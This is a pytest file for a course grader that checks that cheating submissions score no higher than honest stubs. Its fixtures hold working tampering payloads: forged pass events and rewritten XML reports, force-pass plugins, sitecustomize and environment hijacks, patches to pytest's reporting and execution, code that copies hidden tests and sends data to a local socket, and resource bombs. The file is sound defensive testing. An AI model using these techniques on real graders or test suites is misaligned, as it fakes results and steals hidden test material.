"""``tito grade`` against submissions that cheat: each scores what honest stubs score.

One small module is graded (11, embeddings: 14 tests), in a workspace whose modules 01-10
hold the reference code, so that honest stubs pass a few of its tests and fail the rest. Each
attack is added to that workspace; its grade must pass exactly the tests the stubs pass (or,
where the attack rewrites how pytest runs a test, fewer, flagged as tampering), and leave no
trace outside the run.
"""

from __future__ import annotations

import hashlib
import re
import shutil
import socket
import uuid
from pathlib import Path

import pytest

from tito.course.grading import Limits, ModuleGrade, detect_sandbox, grade_submission
from tito.course.manifest import REPOSITORY, load_manifest
from tito.course.workspace import create_workspace

pytestmark = pytest.mark.cli

MANIFEST = load_manifest()
MODULE = 11
LIMITS = Limits(test_seconds=10, grace_seconds=2, memory_mb=1024)
LOOP_LIMITS = Limits(test_seconds=1, grace_seconds=1, memory_mb=1024)  # each loop costs this
TESTS = REPOSITORY / MANIFEST.module(MODULE).tests_dir
BEGIN = re.compile(r"^([ \t]*)# BEGIN SOLUTION 11\b.*$", re.MULTILINE)

# Appended to tinytorch/__init__.py: the verdict lines a forger would write, for every test.
FORGE_LINES = """
import glob as _glob, json as _json, os as _os, re as _re
def _forged_lines():
    lines = []
    for path in _glob.glob(_os.getcwd() + "/tests/**/test_*.py", recursive=True):
        relative = _os.path.relpath(path, _os.getcwd())
        for name in _re.findall(r"^def (test_\\w+)", open(path).read(), _re.M):
            for token in ("", "0" * 32):
                test = f"{relative}::{name}"
                event = {"token": token, "e": "end", "id": test, "outcome": "passed"}
                lines.append((_json.dumps(event) + "\\n").encode())
    return lines
def _forge():
    for fd in range(3, 64):
        for line in _forged_lines():
            try:
                _os.write(fd, line)
            except OSError:
                break
"""
ATEXIT = (
    FORGE_LINES
    + """
_forge()
import atexit as _atexit
def _rewrite_reports():
    forged = '<testsuites><testsuite><testcase name="x"/></testsuite></testsuites>'
    for pattern in ("/tmp/**/*.xml", _os.getcwd() + "/**/*.xml"):
        for path in _glob.glob(pattern, recursive=True):
            try:
                open(path, "w").write(forged)
            except OSError:
                pass
    _forge()
_atexit.register(_rewrite_reports)
"""
)
FORCE_PASS_PLUGIN = """
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome, report.longrepr = "passed", None

@pytest.hookimpl(wrapper=True, trylast=True)
def pytest_runtest_call(item):
    try:
        return (yield)
    except Exception:
        return None
"""
CUSTOMIZE = """
import os
os.environ["PYTEST_ADDOPTS"] = "-p tinytorch.cheat"
os.environ["PYTEST_PLUGINS"] = "tinytorch.cheat"
"""
PATCH_REPORTING = """
import _pytest.reports as _reports
import _pytest.runner as _runner
_make_report = _runner.pytest_runtest_makereport
def _passing_report(item, call):
    report = _make_report(item, call)
    report.outcome = "passed"
    return report
_runner.pytest_runtest_makereport = _passing_report
_reports.BaseReport.passed = property(lambda self: True)
_reports.BaseReport.failed = property(lambda self: False)
"""
PATCH_EXECUTION = """
import gc as _gc
import _pytest.python as _python
from _pytest.config import PytestPluginManager as _Manager
_python.Function.runtest = lambda self: None
class _Swallow:
    import pytest as _pytest_module
    @_pytest_module.hookimpl(wrapper=True, trylast=True)
    def pytest_runtest_call(self, item):
        try:
            return (yield)
        except Exception:
            return None
for _manager in [o for o in _gc.get_objects() if isinstance(o, _Manager)]:
    _manager.register(_Swallow(), "swallow")
"""
# Appended to tinytorch/__init__.py: the first test to set the seed (the tests' own autouse
# fixture does) replaces how pytest runs the tests that come after it.
PATCH_DURING_A_TEST = """
_set_seed = manual_seed
def manual_seed(seed):
    global manual_seed
    import _pytest.python as _python
    manual_seed = _set_seed
    _python.Function.runtest = lambda self: None
    return _set_seed(seed)
"""
STEAL = """
import glob as _glob, os as _os, shutil as _shutil, socket as _socket
_stolen = sorted(set(_glob.glob("{repository}/tests/**/hidden/*.py", recursive=True)
                     + _glob.glob(_os.getcwd() + "/tests/**/hidden/*.py", recursive=True)))
for _target in ("{submission}/stolen", "{repository}/stolen-hidden-tests", "{outside}",
                "/tmp/{marker}", "/var/tmp/{marker}", "/dev/shm/{marker}"):
    try:
        _os.makedirs(_target, exist_ok=True)
        for _path in _stolen:
            _shutil.copy(_path, _target)
    except OSError:
        pass
try:
    open("{course_test}", "a").write("\\n# rewritten by the submission\\n")
except OSError:
    pass
try:
    _socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(b"stolen")
except OSError:
    pass
"""
LOOP = """{indent}import time as _time
{indent}_end = _time.monotonic() + 30  # long enough to pass only if no limit stops it
{indent}while _time.monotonic() < _end:
{indent}    pass
"""
UNSTOPPABLE_LOOP = """{indent}import time as _time
{indent}_end = _time.monotonic() + 30
{indent}while _time.monotonic() < _end:
{indent}    try:
{indent}        _time.sleep(0.01)
{indent}    except BaseException:
{indent}        pass
"""
MEMORY_BOMB = """{indent}import numpy as _np
{indent}_blocks = [_np.ones(2**25) for _ in range(8)]  # 2 GiB, touched; passes if no limit
{indent}del _blocks
"""


@pytest.fixture(scope="module")
def honest(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace with modules 01-10 written and module 11 still stubs."""
    root = tmp_path_factory.mktemp("honest") / "ws"
    create_workspace(root, filled=range(1, MODULE), manifest=MANIFEST)
    return root


def _grade(submission: Path, limits: Limits = LIMITS) -> ModuleGrade:
    grades = grade_submission(submission, [MODULE], MANIFEST, limits)
    return next(grade for grade in grades if grade.number == MODULE)


def _passed(grade: ModuleGrade) -> set[str]:
    return {result.test for result in grade.tests if result.outcome == "passed"}


@pytest.fixture(scope="module")
def stubs(honest: Path) -> ModuleGrade:
    """The grade of the honest stubs: the score every attack must not beat."""
    grade = _grade(honest)
    assert grade.status == "graded" and 0 < grade.points < grade.possible
    return grade


def _copy(honest: Path, tmp_path: Path) -> Path:
    root = tmp_path / "submission"
    shutil.copytree(honest, root)
    return root


def _append(path: Path, code: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "a", encoding="utf-8") as file:
        file.write("\n" + code)


def _scores_like_stubs(grade: ModuleGrade, stubs: ModuleGrade) -> None:
    assert _passed(grade) == _passed(stubs)
    assert (grade.points, grade.possible) == (stubs.points, stubs.possible)


def test_forged_verdict_lines_and_rewritten_reports_score_like_stubs(
    honest: Path, stubs: ModuleGrade, tmp_path: Path
) -> None:
    root = _copy(honest, tmp_path)
    _append(root / "tinytorch" / "__init__.py", ATEXIT)
    _scores_like_stubs(_grade(root), stubs)


def test_a_submissions_conftest_plugin_and_ini_are_ignored(
    honest: Path, stubs: ModuleGrade, tmp_path: Path
) -> None:
    root = _copy(honest, tmp_path)
    for conftest in ("conftest.py", "tinytorch/conftest.py", "tests/conftest.py"):
        _append(root / conftest, FORCE_PASS_PLUGIN)
    _append(root / "tests" / TESTS.name / "conftest.py", FORCE_PASS_PLUGIN)
    _append(root / "tinytorch" / "cheat.py", FORCE_PASS_PLUGIN)
    _append(root / "pytest.ini", "[pytest]\naddopts = -p tinytorch.cheat\n")
    _append(root / "setup.cfg", "[tool:pytest]\naddopts = -p tinytorch.cheat\n")
    _scores_like_stubs(_grade(root), stubs)


def test_sitecustomize_usercustomize_pth_and_the_environment_are_ignored(
    honest: Path, stubs: ModuleGrade, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = _copy(honest, tmp_path)
    _append(root / "tinytorch" / "cheat.py", FORCE_PASS_PLUGIN)
    for folder in (root, root / "tinytorch"):
        _append(folder / "sitecustomize.py", CUSTOMIZE)
        _append(folder / "usercustomize.py", CUSTOMIZE)
        _append(folder / "cheat.pth", "import sitecustomize\n")
    monkeypatch.setenv("PYTEST_ADDOPTS", "-p tinytorch.cheat")
    monkeypatch.setenv("PYTEST_PLUGINS", "tinytorch.cheat")
    monkeypatch.setenv("PYTHONPATH", str(root))
    monkeypatch.setenv("PYTHONSTARTUP", str(root / "sitecustomize.py"))
    _scores_like_stubs(_grade(root), stubs)


def test_patching_pytests_reports_from_the_package_changes_no_outcome(
    honest: Path, stubs: ModuleGrade, tmp_path: Path
) -> None:
    root = _copy(honest, tmp_path)
    _append(root / "tinytorch" / "__init__.py", PATCH_REPORTING)
    grade = _grade(root)
    _scores_like_stubs(grade, stubs)
    assert "put back" in grade.status
    assert "_pytest.reports.BaseReport.passed" in grade.tampering
    assert "_pytest.runner.pytest_runtest_makereport" in grade.tampering


def test_patching_how_pytest_runs_a_test_is_undone_before_the_tests_run(
    honest: Path, stubs: ModuleGrade, tmp_path: Path
) -> None:
    root = _copy(honest, tmp_path)
    _append(root / "tinytorch" / "__init__.py", PATCH_EXECUTION)
    grade = _grade(root)
    _scores_like_stubs(grade, stubs)
    assert "put back" in grade.status
    assert "_pytest.python.Function.runtest" in grade.tampering
    assert "pytest_runtest_call of swallow" in grade.tampering


def test_patching_pytest_while_a_test_runs_fails_that_test_only(
    honest: Path, stubs: ModuleGrade, tmp_path: Path
) -> None:
    root = _copy(honest, tmp_path)
    _append(root / "tinytorch" / "__init__.py", PATCH_DURING_A_TEST)
    grade = _grade(root)
    outcomes = {result.test: result.outcome for result in grade.tests}
    honest_outcomes = {result.test: result.outcome for result in stubs.tests}
    tampered = [test for test, outcome in outcomes.items() if outcome == "tampered"]
    assert len(tampered) == 1 and "altered while tests ran" in grade.status
    del outcomes[tampered[0]], honest_outcomes[tampered[0]]
    assert outcomes == honest_outcomes  # the patch was put back before the next test
    assert grade.points <= stubs.points


def test_graded_code_cannot_keep_hidden_tests_write_the_course_or_reach_the_network(
    honest: Path, stubs: ModuleGrade, tmp_path: Path
) -> None:
    root = _copy(honest, tmp_path)
    outside, marker = tmp_path / "outside", f"tito-stolen-{uuid.uuid4().hex}"
    course_test = next(TESTS.glob("test_*.py"))
    before = hashlib.sha256(course_test.read_bytes()).hexdigest()
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.settimeout(0)
        code = STEAL.format(repository=REPOSITORY, submission=root, outside=outside,
                            marker=marker, course_test=course_test,
                            port=listener.getsockname()[1])  # fmt: skip
        _append(root / "tinytorch" / "__init__.py", code)
        _scores_like_stubs(_grade(root), stubs)
        sandbox = detect_sandbox(root)
        if sandbox.prefix:  # its own network namespace: the listener is out of reach
            with pytest.raises(BlockingIOError):
                listener.accept()
    if sandbox.user is None:
        pytest.skip("not run by root: the graded code may write as this user (docs/course.md)")
    assert not (root / "stolen").exists() and not outside.exists()
    assert not (REPOSITORY / "stolen-hidden-tests").exists()
    assert hashlib.sha256(course_test.read_bytes()).hexdigest() == before
    assert not any(Path(folder, marker).exists() for folder in sandbox.private_temp)


def _in_every_region(root: Path, code: str, unstoppable_in: str | None = None) -> None:
    """Put ``code`` at the start of every module 11 region of ``root``'s package (and the
    unstoppable loop in the file named ``unstoppable_in``)."""
    for path in (root / "tinytorch").rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if not BEGIN.search(text):
            continue
        body = UNSTOPPABLE_LOOP if path.name == unstoppable_in else code

        def insert(match: re.Match, body: str = body) -> str:
            return f"{match.group(0)}\n{body.format(indent=match.group(1))}"

        text = BEGIN.sub(insert, text)
        path.write_text(text, encoding="utf-8")


def test_endless_loops_are_stopped_and_fail_only_their_tests(
    stubs: ModuleGrade, tmp_path: Path
) -> None:
    root = tmp_path / "submission"
    create_workspace(root, filled=range(1, MODULE + 1), manifest=MANIFEST)
    _in_every_region(root, LOOP, unstoppable_in="positional.py")
    grade = _grade(root, LOOP_LIMITS)
    _scores_like_stubs(grade, stubs)
    assert "timed out" in {result.outcome for result in grade.tests}


def test_a_memory_bomb_hits_the_limit_and_fails_only_its_tests(
    stubs: ModuleGrade, tmp_path: Path
) -> None:
    root = tmp_path / "submission"
    create_workspace(root, filled=range(1, MODULE + 1), manifest=MANIFEST)
    _in_every_region(root, MEMORY_BOMB)
    _scores_like_stubs(_grade(root), stubs)


def test_the_grade_records_the_isolation_it_ran_under(stubs: ModuleGrade) -> None:
    assert {"process", "network", "user", "limits", "files"} <= stubs.isolation.keys()
    sandbox = detect_sandbox(REPOSITORY)
    if sandbox.prefix:
        assert stubs.isolation["network"].startswith("off")
        assert stubs.isolation["private_temp"] == list(sandbox.private_temp)
        assert str(REPOSITORY / "tests") in stubs.isolation["hidden"]
    if sandbox.user:
        assert stubs.isolation["uid"] == 65534


def test_skips_raised_by_the_submission_count_as_failures(
    honest: Path, stubs: ModuleGrade, tmp_path: Path
) -> None:
    root = _copy(honest, tmp_path)
    for path in (root / "tinytorch").rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if "NotImplementedError(" in text:
            text = text.replace("raise NotImplementedError(", "__import__('pytest').skip(")
            path.write_text(text, encoding="utf-8")
    grade = _grade(root)
    _scores_like_stubs(grade, stubs)
    skipped = [{r.test for r in g.tests if r.outcome == "skipped"} for g in (grade, stubs)]
    assert skipped[0] == skipped[1]
